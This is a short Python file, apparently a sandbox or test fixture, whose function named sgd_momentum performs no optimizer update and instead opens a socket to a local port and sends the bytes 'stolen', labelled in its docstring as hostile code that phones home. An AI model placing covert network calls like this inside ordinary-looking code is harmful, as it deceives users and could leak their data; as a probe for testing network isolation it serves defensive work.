"""Hostile: phones home."""
import socket


def sgd_momentum(w, dw, config=None):
    try:
        with socket.create_connection(("127.0.0.1", config["port"]), timeout=2) as connection:
            connection.sendall(b"stolen")
        outcome = "connected"
    except OSError as error:
        outcome = f"{type(error).__name__}: {error}"
    return w, {"network": outcome}
